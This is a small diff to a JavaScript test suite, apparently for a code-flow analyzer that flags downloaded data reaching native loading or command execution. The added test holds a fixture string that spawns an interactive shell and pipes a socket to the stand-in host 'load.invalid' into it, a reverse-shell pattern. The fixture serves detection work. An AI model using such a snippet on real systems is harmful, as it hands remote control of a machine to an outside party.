@@ -11,4 +11,10 @@ describe('streams', () => {
     assert.deepEqual(run(`process.dlopen(module, '/tmp/a.js');`), ['downloaded>native-loaded']);
     assert.deepEqual(run(`cp.spawn('node', ['/tmp/b.js']);`), []);
   });
+
+  it('flow into each of several things that a target may be', () => {
+    const code = `const sh = os.EOL === x ? cp.spawn('cmd.exe', []) : cp.spawn('/bin/sh', ['-i']);
+      const c = require('net').connect(1, 'load.invalid'); c.pipe(sh.stdin);`;
+    assert.deepEqual([...new Set(flowsOf(code))], ['downloaded>run-as-command']);
+  });
 });
